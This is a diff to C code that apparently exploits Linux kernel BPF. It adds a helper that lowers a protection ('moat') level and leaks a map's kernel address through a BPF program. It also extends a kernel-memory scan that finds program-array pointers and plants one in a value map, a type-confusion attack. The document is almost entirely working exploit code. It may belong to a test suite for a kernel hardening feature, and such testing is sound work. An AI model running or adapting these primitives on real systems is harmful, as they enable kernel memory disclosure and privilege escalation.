@@ -40,12 +40,32 @@ static int array_with(int prog, u32 entries)
 	return array;
 }
 
+/* Where it is; programs of one type alone have an array of programs. */
+static u64 address_of(const struct prog_type *t, int array)
+{
+	struct bpf_insn insns[] = {
+		LD_MAP_FD(R1, array),
+		LD_MAP_VALUE(R2, loot, 80),
+		STX(BPF_DW, R2, R1, 0),
+		MOV_IMM(R0, 0),
+		EXIT(),
+	};
+	int fd, now = level;
+
+	moat_set_level(0);
+	fd = load(t, "tell", insns, ARRAY_SIZE(insns));
+	prog_run_once(fd);
+	moat_set_level(now);
+	close(fd);
+	return loot_at(10);
+}
+
 static const u64 mark = MARK;
 
 static void others_array(const struct prog_type *t)
 {
 	int prize = load_prize(t), array = array_with(prize, 1);
-	u64 where = map_address(array);
+	u64 where = address_of(t, array);
 	struct bpf_insn insns[] = {
 		LD_IMM64(R2, where),
 		MOV_IMM(R3, 0),
@@ -107,7 +127,7 @@ static void peek(u64 addr, u64 *to, int words)
 static void array_of_values(const struct prog_type *t)
 {
 	int prize = load_prize(t), array = array_with(prize, 2), values = array_of(8);
-	u64 head[64], at = map_address(array);
+	u64 head[128], at = address_of(t, array);
 	u32 zero = 0;
 	struct bpf_insn insns[] = {
 		LD_MAP_FD(R2, values),
@@ -119,13 +139,13 @@ static void array_of_values(const struct prog_type *t)
 	char text[64];
 	int i;
 
-	peek(at, head, 32);
-	peek(at + 256, head + 32, 32);
+	for (i = 0; i < 128; i += 32)
+		peek(at + 8 * i, head + i, 32);
 	/* Two that are the same, and kernel addresses: the programs of the array */
-	for (i = 0; i < 62; i++)
-		if (head[i] == head[i + 1] && head[i] >> 47 == 0x1ffff && head[i] != -1ULL)
+	for (i = 0; i < 127; i++)
+		if (head[i] == head[i + 1] && head[i] >> 56 == 0xff && head[i] % 4096 == 0)
 			break;
-	if (i == 62)
+	if (i == 127)
 		bail("no programs in the array");
 	map_update(values, &zero, &head[i]);
 	snprintf(text, sizeof(text), "%s goes through an array of values", t->name);
